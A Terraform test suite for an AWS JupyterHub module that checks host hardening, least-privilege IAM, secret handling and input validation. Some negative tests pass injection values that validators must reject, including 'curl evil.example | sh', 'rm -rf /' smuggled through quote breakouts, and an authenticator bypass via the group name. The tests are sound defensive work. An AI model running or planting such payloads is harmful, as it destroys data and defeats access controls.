mock_provider "aws" {
  mock_data "aws_ami" {
    defaults = {
      id = "ami-0a1b2c3d4e5f60718"
    }
  }

  mock_resource "aws_secretsmanager_secret" {
    defaults = {
      arn = "arn:aws:secretsmanager:us-east-1:123456789012:secret:artificien-test/jupyterhub/oauth-client-secret-AbCdEf"
    }
  }

  mock_resource "aws_eip" {
    defaults = {
      public_ip = "203.0.113.10"
    }
  }

  mock_data "aws_subnet" {
    defaults = {
      availability_zone = "us-east-1b"
    }
  }

  mock_resource "aws_ebs_volume" {
    defaults = {
      id = "vol-0a1b2c3d4e5f67890"
    }
  }
}

variables {
  name        = "artificien-test"
  region      = "us-east-1"
  kms_key_arn = "arn:aws:kms:us-east-1:123456789012:key/11111111-2222-3333-4444-555555555555"
  vpc_id      = "vpc-0123abcd"
  subnet_id   = "subnet-0123abcd"
  sample_data_bucket = {
    name = "artificien-test-sample-data"
    arn  = "arn:aws:s3:::artificien-test-sample-data"
  }
  tutorials_bucket = {
    name = "artificien-test-tutorials"
    arn  = "arn:aws:s3:::artificien-test-tutorials"
  }
  cognito = {
    hosted_ui_base_url = "https://artificien-test.auth.us-east-1.amazoncognito.com"
    client_id          = "4abcdefghijklmnopqrstuvwx1"
  }
  cognito_client_secret = "s3cr3t-Value-That-Must-Never-Leak-0123456789"
  jupyter_domain        = "jupyter.test.artificien.example"
  letsencrypt_email     = "ops@artificien.example"
  admin_users           = ["alice", "bob.smith"]
  notebook_sync = {
    queue_url = "https://sqs.us-east-1.amazonaws.com/123456789012/artificien-test-notebook-sync"
    queue_arn = "arn:aws:sqs:us-east-1:123456789012:artificien-test-notebook-sync"
  }
  platform = {
    user_pool_id      = "us-east-1_AbCdEf123"
    web_client_id     = "7webclientidabcdefghijklmn"
    orchestration_url = "https://orchestration.test.artificien.example"
    api_url           = "https://abc123.execute-api.us-east-1.amazonaws.com"
  }
  tags = { project = "artificien", environment = "test" }
}

run "explicit_ami_skips_the_lookup" {
  # First, on an empty state: later runs share the applied host, whose AMI is then frozen.
  command = plan

  variables {
    ami_id = "ami-0fedcba9876543210"
  }

  assert {
    condition     = length(data.aws_ami.ubuntu) == 0 && aws_instance.this.ami == "ami-0fedcba9876543210"
    error_message = "With ami_id set, no lookup and that AMI."
  }
}

run "host_is_hardened" {
  command = apply

  assert {
    condition     = aws_instance.this.metadata_options[0].http_tokens == "required" && aws_instance.this.metadata_options[0].http_put_response_hop_limit == 1
    error_message = "The host must allow IMDSv2 only, with a hop limit of 1."
  }

  assert {
    condition     = aws_instance.this.root_block_device[0].encrypted && aws_instance.this.root_block_device[0].kms_key_id == var.kms_key_arn
    error_message = "The root volume must be encrypted with the platform key."
  }

  assert {
    condition     = aws_instance.this.root_block_device[0].volume_size == 50 && aws_instance.this.instance_type == "t3.large"
    error_message = "Default size and type are 50 GiB and t3.large."
  }

  assert {
    condition     = aws_instance.this.monitoring && aws_instance.this.ebs_optimized
    error_message = "Detailed monitoring and EBS optimisation must be on."
  }

  assert {
    condition     = aws_eip.this.instance == aws_instance.this.id && aws_eip.this.domain == "vpc" && output.public_ip == "203.0.113.10"
    error_message = "The host's public address must be its Elastic IP."
  }

  assert {
    condition     = aws_instance.this.iam_instance_profile == aws_iam_instance_profile.this.name && aws_iam_instance_profile.this.role == aws_iam_role.this.name
    error_message = "The host must run with its own instance profile and role."
  }

  assert {
    condition     = aws_instance.this.ami == "ami-0a1b2c3d4e5f60718"
    error_message = "Without ami_id the AMI comes from the data source."
  }

  assert {
    condition     = data.aws_ami.ubuntu[0].owners == tolist(["099720109477"]) && contains([for f in data.aws_ami.ubuntu[0].filter : one(f.values) if f.name == "name"], "ubuntu/images/hvm-ssd/ubuntu-jammy-22.04-amd64-server-*")
    error_message = "The default AMI filter must be Canonical's Ubuntu 22.04 amd64 server images."
  }

  assert {
    condition     = length(aws_route53_record.this) == 0
    error_message = "No DNS record unless dns_record_enabled."
  }

  assert {
    condition     = aws_instance.this.tags["Name"] == "artificien-test-jupyterhub" && aws_instance.this.tags["environment"] == "test"
    error_message = "The instance carries the module's tags and a Name."
  }
}

run "only_http_and_https_are_open" {
  command = apply

  assert {
    condition     = toset([aws_vpc_security_group_ingress_rule.http.from_port, aws_vpc_security_group_ingress_rule.https.from_port]) == toset([80, 443]) && aws_vpc_security_group_ingress_rule.http.to_port == 80 && aws_vpc_security_group_ingress_rule.https.to_port == 443
    error_message = "Ingress must be exactly ports 80 and 443."
  }

  assert {
    condition     = aws_vpc_security_group_ingress_rule.http.ip_protocol == "tcp" && aws_vpc_security_group_ingress_rule.https.ip_protocol == "tcp"
    error_message = "Ingress must be TCP only."
  }

  assert {
    condition     = aws_vpc_security_group_egress_rule.https.from_port == 443 && aws_vpc_security_group_egress_rule.http.from_port == 80 && aws_vpc_security_group_egress_rule.https.ip_protocol == "tcp"
    error_message = "Egress must be limited to TCP 80 and 443."
  }

  assert {
    condition     = aws_instance.this.vpc_security_group_ids == toset([aws_security_group.this.id]) && aws_security_group.this.vpc_id == var.vpc_id
    error_message = "The host must use only its own security group, in the given VPC."
  }
}

run "secret_is_stored_encrypted_and_never_in_user_data" {
  command = apply

  assert {
    condition     = aws_secretsmanager_secret.oauth_client.kms_key_id == var.kms_key_arn && aws_secretsmanager_secret.oauth_client.name == "artificien-test/jupyterhub/oauth-client-secret"
    error_message = "The OAuth client secret must be encrypted with the platform key."
  }

  assert {
    condition     = aws_secretsmanager_secret_version.oauth_client.secret_string == var.cognito_client_secret
    error_message = "The secret's value must be the Cognito client secret."
  }

  assert {
    condition     = !strcontains(local.user_data, var.cognito_client_secret)
    error_message = "The client secret must never be in the user data."
  }

  assert {
    condition     = strcontains(local.user_data, "readonly CLIENT_SECRET_ARN='${aws_secretsmanager_secret.oauth_client.arn}'") && strcontains(local.user_data, "secretsmanager get-secret-value")
    error_message = "The user data must fetch the secret by ARN at boot."
  }

  assert {
    condition     = output.client_secret_arn == aws_secretsmanager_secret.oauth_client.arn
    error_message = "Only the secret's ARN is an output."
  }
}

run "user_data_configures_cognito_https_and_sync" {
  command = apply

  assert {
    condition     = startswith(local.user_data, "#!/bin/bash\n")
    error_message = "The user data is a bash script."
  }

  assert {
    condition     = strcontains(local.user_data, "readonly CLIENT_ID='4abcdefghijklmnopqrstuvwx1'") && strcontains(local.user_data, "readonly COGNITO_BASE_URL='https://artificien-test.auth.us-east-1.amazoncognito.com'")
    error_message = "The user data must name the Cognito client and hosted UI."
  }

  assert {
    condition     = strcontains(local.user_data, "oauth_callback_url \"https://$JUPYTER_DOMAIN/hub/oauth_callback\"") && strcontains(local.user_data, "readonly JUPYTER_DOMAIN='jupyter.test.artificien.example'")
    error_message = "The OAuth callback must be https://<jupyter domain>/hub/oauth_callback."
  }

  assert {
    condition     = strcontains(local.user_data, "https.letsencrypt.email \"$LETSENCRYPT_EMAIL\"") && strcontains(local.user_data, "readonly LETSENCRYPT_EMAIL='ops@artificien.example'")
    error_message = "HTTPS must come from Let's Encrypt with the given email."
  }

  assert {
    condition     = strcontains(local.user_data, "\"reconcile_seconds\":3600") && strcontains(local.user_data, "systemctl enable --now artificien-notebook-sync.service") && !strcontains(local.user_data, "OnUnitActiveSec") && !strcontains(local.user_data, "crontab")
    error_message = "The buckets must reach the folders through the event-driven agent (a systemd service) with an hourly reconcile; no timer, no crontab."
  }

  assert {
    condition     = strcontains(local.user_data, "\"queue_url\":\"https://sqs.us-east-1.amazonaws.com/123456789012/artificien-test-notebook-sync\"")
    error_message = "The agent must long-poll the given queue."
  }

  assert {
    condition     = aws_instance.this.user_data_base64 == base64gzip(local.user_data)
    error_message = "The host must boot the gzip-compressed script (EC2 takes at most 16 KB of user data)."
  }

  assert {
    # base64 of at most 15 KB: EC2's 16 KB limit with a margin
    condition     = length(local.user_data_gzip_base64) <= ceil(15 * 1024 / 3) * 4
    error_message = "The compressed user data must stay under EC2's 16 KB limit, with 1 KB to spare."
  }

  assert {
    condition     = strcontains(local.user_data, "readonly SAMPLE_DATA_BUCKET='artificien-test-sample-data'") && strcontains(local.user_data, "readonly TUTORIALS_BUCKET='artificien-test-tutorials'")
    error_message = "The sync must read the two given buckets."
  }

  assert {
    condition     = strcontains(local.user_data, "users.admin 'alice'") && strcontains(local.user_data, "users.admin 'bob.smith'")
    error_message = "Every admin user must be configured."
  }

  assert {
    condition     = strcontains(local.user_data, "user_environment.default_app jupyterlab") && strcontains(local.user_data, "pip install --no-cache-dir 'numpy' 'pandas'")
    error_message = "JupyterLab must be the default app, with the data-science packages."
  }
}

run "instance_role_reads_exactly_two_buckets_and_one_secret" {
  command = apply

  assert {
    condition     = jsondecode(aws_iam_role.this.assume_role_policy).Statement[0].Principal.Service == "ec2.amazonaws.com"
    error_message = "Only EC2 may assume the host role."
  }

  assert {
    condition = {
      for s in jsondecode(aws_iam_role_policy.this.policy).Statement : s.Sid => { actions = s.Action, resources = s.Resource }
      } == {
      ListSharedBuckets = {
        actions   = ["s3:ListBucket"]
        resources = ["arn:aws:s3:::artificien-test-sample-data", "arn:aws:s3:::artificien-test-tutorials"]
      }
      ReadSharedObjects = {
        actions   = ["s3:GetObject"]
        resources = ["arn:aws:s3:::artificien-test-sample-data/*", "arn:aws:s3:::artificien-test-tutorials/*"]
      }
      ReceiveNotebookSyncEvents = {
        actions   = ["sqs:ReceiveMessage", "sqs:DeleteMessage"]
        resources = ["arn:aws:sqs:us-east-1:123456789012:artificien-test-notebook-sync"]
      }
      ReadOAuthClientSecret = {
        actions   = ["secretsmanager:GetSecretValue"]
        resources = ["arn:aws:secretsmanager:us-east-1:123456789012:secret:artificien-test/jupyterhub/oauth-client-secret-AbCdEf"]
      }
      DecryptThroughS3AndSecretsManager = {
        actions   = ["kms:Decrypt"]
        resources = [var.kms_key_arn]
      }
    }
    error_message = "The host role must read exactly the two buckets, receive/delete on their event queue and read the one secret, and nothing else."
  }

  assert {
    condition     = toset([for s in jsondecode(aws_iam_role_policy.this.policy).Statement : s.Effect]) == toset(["Allow"]) && !strcontains(aws_iam_role_policy.this.policy, "\"*\"")
    error_message = "No wildcard resource."
  }

  assert {
    condition = one([for s in jsondecode(aws_iam_role_policy.this.policy).Statement : s.Condition.StringEquals["kms:ViaService"] if s.Sid == "DecryptThroughS3AndSecretsManager"]) == [
      "s3.us-east-1.amazonaws.com", "secretsmanager.us-east-1.amazonaws.com"
    ]
    error_message = "The key may be used only through S3 and Secrets Manager."
  }

  assert {
    condition = {
      for s in jsondecode(aws_iam_role_policy.session_manager.policy).Statement : s.Sid => { actions = s.Action, resources = s.Resource }
      } == {
      RegisterThisInstance = {
        actions   = ["ssm:UpdateInstanceInformation"]
        resources = [aws_instance.this.arn]
      }
      SessionChannels = {
        actions   = ["ssmmessages:CreateControlChannel", "ssmmessages:CreateDataChannel", "ssmmessages:OpenControlChannel", "ssmmessages:OpenDataChannel"]
        resources = ["*"]
      }
    }
    error_message = "Operators reach the host through SSM Session Manager, with nothing more (no ssm:GetParameter)."
  }
}

run "a_newer_ami_does_not_replace_the_host" {
  # The users' home directories live on the host: a new image must not replace it on the next apply.
  command = plan

  variables {
    ami_id = "ami-0fedcba9876543210"
  }

  assert {
    condition     = aws_instance.this.ami == "ami-0a1b2c3d4e5f60718"
    error_message = "A changed AMI must not change (and so not replace) the running host."
  }
}

run "dns_record_points_at_the_elastic_ip" {
  command = apply

  variables {
    dns_record_enabled = true
    route53_zone_id    = "Z0123456789ABCDEFGHIJ"
  }

  assert {
    condition     = aws_route53_record.this[0].name == "jupyter.test.artificien.example" && aws_route53_record.this[0].type == "A" && aws_route53_record.this[0].records == toset(["203.0.113.10"])
    error_message = "The A record must point the jupyter domain at the Elastic IP."
  }
}

run "no_packages_means_no_pip_install" {
  command = apply

  variables {
    user_packages              = []
    admin_users                = []
    reconcile_interval_minutes = 15
  }

  assert {
    condition     = !strcontains(local.user_data, "/opt/tljh/user/bin/pip install") && !strcontains(local.user_data, "users.admin") && strcontains(local.user_data, "\"reconcile_seconds\":900")
    error_message = "Empty lists render nothing; the reconcile interval follows the variable."
  }
}

run "the_tutorials_kernel_is_pinned_in_one_variable" {
  command = apply

  variables {
    tutorials_kernel = {
      packages = ["syft==0.2.9", "ipykernel==5.5.6"]
    }
  }

  assert {
    condition     = strcontains(local.user_data, "-m pip install --no-cache-dir 'syft==0.2.9' 'ipykernel==5.5.6'") && strcontains(local.user_data, "'python=3.8' 'pip=24.0'") && strcontains(local.user_data, "--display-name 'Artificien (PySyft 0.2.9)'")
    error_message = "The kernel's packages, Python and pip come from the one variable."
  }
}

run "notebooks_get_the_platform_config" {
  command = apply

  assert {
    condition     = strcontains(local.user_data, jsonencode({ region = "us-east-1", user_pool_id = "us-east-1_AbCdEf123", web_client_id = "7webclientidabcdefghijklmn", orchestration_url = "https://orchestration.test.artificien.example", api_url = "https://abc123.execute-api.us-east-1.amazonaws.com" }))
    error_message = "config.json must hold exactly the region, the pool and web client ids and the two URLs."
  }
}

run "only_the_data_scientists_group_may_sign_in" {
  command = apply

  assert {
    condition     = strcontains(local.user_data, "c.GenericOAuthenticator.allowed_groups = {\"data-scientists\"}") && strcontains(local.user_data, "c.GenericOAuthenticator.claim_groups_key = \"cognito:groups\"")
    error_message = "By default only members of data-scientists, read from the cognito:groups claim, may sign in."
  }

  assert {
    condition     = strcontains(local.user_data, "c.GenericOAuthenticator.userdata_from_id_token = True") && !strcontains(local.user_data, "oauth2/userInfo")
    error_message = "The user's claims must come from the ID token (Cognito's userInfo has no groups)."
  }

  assert {
    condition     = strcontains(local.user_data, "c.GenericOAuthenticator.allow_all = False") && !strcontains(local.user_data, "allow_all true")
    error_message = "Signed-in Cognito users outside the group must not be let in."
  }
}

run "the_sign_in_group_follows_the_variable" {
  command = plan

  variables {
    data_scientists_group_name = "notebook-users"
  }

  assert {
    condition     = strcontains(local.user_data, "c.GenericOAuthenticator.allowed_groups = {\"notebook-users\"}") && !strcontains(local.user_data, "data-scientists")
    error_message = "allowed_groups must be exactly the configured group."
  }
}

run "every_user_server_is_limited" {
  command = plan

  assert {
    condition     = strcontains(local.user_data, "tljh-config set limits.memory '2G'") && strcontains(local.user_data, "tljh-config set limits.cpu '1'")
    error_message = "By default one user's server gets at most 2G of memory and one core (sized for t3.large)."
  }
}

run "user_limits_follow_the_variable" {
  command = plan

  variables {
    user_limits = {
      memory = "512M"
      cpu    = 0.5
    }
  }

  assert {
    condition     = strcontains(local.user_data, "tljh-config set limits.memory '512M'") && strcontains(local.user_data, "tljh-config set limits.cpu '0.5'")
    error_message = "The limits must be the configured ones."
  }
}

run "sample_and_tutorial_copies_have_their_own_encrypted_volume" {
  command = apply

  assert {
    condition     = aws_ebs_volume.data.encrypted && aws_ebs_volume.data.kms_key_id == var.kms_key_arn && aws_ebs_volume.data.type == "gp3"
    error_message = "The data volume must be gp3, encrypted with the platform key."
  }

  assert {
    condition     = aws_ebs_volume.data.size == 20 && aws_instance.this.root_block_device[0].volume_size == 50
    error_message = "The data volume defaults to 20 GiB, apart from the 50 GiB root volume."
  }

  assert {
    condition     = aws_ebs_volume.data.availability_zone == "us-east-1b" && data.aws_subnet.this.id == var.subnet_id
    error_message = "The volume must be in the host's subnet's zone."
  }

  assert {
    condition     = aws_volume_attachment.data.instance_id == aws_instance.this.id && aws_volume_attachment.data.volume_id == aws_ebs_volume.data.id && aws_volume_attachment.data.device_name == "/dev/sdf" && aws_volume_attachment.data.stop_instance_before_detaching
    error_message = "The volume must be attached to this host as /dev/sdf, detached only from a stopped host."
  }

  assert {
    condition     = strcontains(local.user_data, "readonly DATA_VOLUME_ID='vol-0a1b2c3d4e5f67890'") && strcontains(local.user_data, "readonly DATA_DEVICE_NAME='/dev/sdf'") && strcontains(local.user_data, "RequiresMountsFor=/srv/data")
    error_message = "The boot script must find the volume by its id and the sync agent must require its mount."
  }

  assert {
    condition     = output.data_volume_id == aws_ebs_volume.data.id && aws_ebs_volume.data.tags["Name"] == "artificien-test-jupyterhub-data"
    error_message = "The volume's id is an output and it carries a Name."
  }
}

run "the_data_volume_size_follows_the_variable" {
  command = plan

  variables {
    data_volume_size = 200
  }

  assert {
    condition     = aws_ebs_volume.data.size == 200
    error_message = "data_volume_size sets the volume's size."
  }
}

run "rejects_a_memory_limit_without_a_unit" {
  command = plan

  variables {
    user_limits = {
      memory = "2GB"
    }
  }

  expect_failures = [var.user_limits]
}

run "rejects_a_zero_cpu_limit" {
  command = plan

  variables {
    user_limits = {
      cpu = 0
    }
  }

  expect_failures = [var.user_limits]
}

run "rejects_quotes_in_the_group_name" {
  command = plan

  variables {
    data_scientists_group_name = "data-scientists\"}; c.GenericOAuthenticator.allow_all = True; {\""
  }

  expect_failures = [var.data_scientists_group_name]
}

run "rejects_tljh_2" {
  command = plan

  variables {
    tljh_version = "2.0.0"
  }

  expect_failures = [var.tljh_version]
}

run "rejects_an_empty_data_volume" {
  command = plan

  variables {
    data_volume_size = 0
  }

  expect_failures = [var.data_volume_size]
}

run "rejects_shell_metacharacters_in_packages" {
  command = plan

  variables {
    user_packages = ["numpy; curl evil.example | sh"]
  }

  expect_failures = [var.user_packages]
}

run "rejects_unpinned_kernel_packages" {
  command = plan

  variables {
    tutorials_kernel = {
      packages = ["syft", "ipykernel==5.5.6"]
    }
  }

  expect_failures = [var.tutorials_kernel]
}

run "rejects_a_kernel_without_ipykernel" {
  command = plan

  variables {
    tutorials_kernel = {
      packages = ["syft==0.2.9"]
    }
  }

  expect_failures = [var.tutorials_kernel]
}

run "rejects_a_queue_url_of_another_queue" {
  command = plan

  variables {
    notebook_sync = {
      queue_url = "https://sqs.us-east-1.amazonaws.com/123456789012/someone-elses-queue"
      queue_arn = "arn:aws:sqs:us-east-1:123456789012:artificien-test-notebook-sync"
    }
  }

  expect_failures = [var.notebook_sync]
}

run "rejects_quotes_in_platform_urls" {
  command = plan

  variables {
    platform = {
      user_pool_id      = "us-east-1_AbCdEf123"
      web_client_id     = "7webclientidabcdefghijklmn"
      orchestration_url = "https://x.example/'; rm -rf /"
      api_url           = "https://abc123.execute-api.us-east-1.amazonaws.com"
    }
  }

  expect_failures = [var.platform]
}

run "rejects_quotes_in_admin_users" {
  command = plan

  variables {
    admin_users = ["alice'; rm -rf /"]
  }

  expect_failures = [var.admin_users]
}

run "rejects_bad_domain" {
  command = plan

  variables {
    jupyter_domain = "https://jupyter.example.com"
  }

  expect_failures = [var.jupyter_domain]
}

run "rejects_bucket_arn_of_another_bucket" {
  command = plan

  variables {
    tutorials_bucket = {
      name = "artificien-test-tutorials"
      arn  = "arn:aws:s3:::someone-elses-bucket"
    }
  }

  expect_failures = [var.tutorials_bucket]
}

run "rejects_hosted_ui_url_with_trailing_slash" {
  command = plan

  variables {
    cognito = {
      hosted_ui_base_url = "https://artificien-test.auth.us-east-1.amazoncognito.com/"
      client_id          = "4abcdefghijklmnopqrstuvwx1"
    }
  }

  expect_failures = [var.cognito]
}

run "dns_record_needs_a_zone" {
  command = plan

  variables {
    dns_record_enabled = true
  }

  expect_failures = [aws_route53_record.this]
}
